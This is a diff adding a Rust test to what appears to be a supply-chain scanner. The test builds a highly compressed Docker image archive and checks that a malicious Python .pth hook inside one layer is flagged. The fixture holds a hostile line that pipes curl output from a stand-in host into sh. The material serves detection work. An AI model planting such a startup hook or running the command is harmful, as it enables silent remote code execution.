@@ -859,3 +859,48 @@ fn a_root_filesystem_tar_past_4_gib_is_streamed_and_the_hook_after_its_model_fou
         "{json:#}"
     );
 }
+
+#[test]
+fn a_docker_save_compressed_whole_past_any_sdist_ratio_is_still_an_image() {
+    // useradd's sparse lastlog: 300 MB of zeros in a layer, the hook after it; the whole
+    // `docker save | zstd` compresses far past the ratio an sdist may have
+    let dir = tempfile::tempdir().unwrap();
+    let zeros = vec![0u8; 300 << 20];
+    let hook: &[u8] = b"import os; os.system('curl -s https://z.invalid | sh')\n";
+    let layer = tar_of(&[
+        ("var/log/lastlog", &zeros),
+        ("usr/local/lib/python3.12/site-packages/after.pth", hook),
+    ]);
+    let config = br#"{"history":[{"created_by":"RUN useradd -u 999999 app"}]}"#;
+    let manifest = format!(
+        r#"[{{"Config":"blobs/sha256/{}","RepoTags":["app:1"],"Layers":["blobs/sha256/{}"]}}]"#,
+        sha(config),
+        sha(&layer)
+    );
+    let save = tar_of(&[
+        (&format!("blobs/sha256/{}", sha(&layer)), &layer),
+        (&format!("blobs/sha256/{}", sha(config)), config),
+        ("manifest.json", manifest.as_bytes()),
+    ]);
+    let zst =
+        ruzstd::encoding::compress_to_vec(&save[..], ruzstd::encoding::CompressionLevel::Fastest);
+    assert!(
+        save.len() / zst.len() > 1000,
+        "{} → {}",
+        save.len(),
+        zst.len()
+    );
+    std::fs::write(dir.path().join("app.tar.zst"), zst).unwrap();
+    let (json, out) = scan_json(dir.path(), &[]);
+    assert_eq!(code(&out), 1, "{}", stderr(&out));
+    let at = format!(
+        "app.tar.zst › app:1 › layer 1 sha256:{} › usr/local/lib/python3.12/site-packages/after.pth:1",
+        &sha(&layer)[..12]
+    );
+    assert!(
+        found(&json, dir.path())
+            .iter()
+            .any(|(r, _, p)| r == "PTH001" && p == &at),
+        "{json:#}"
+    );
+}
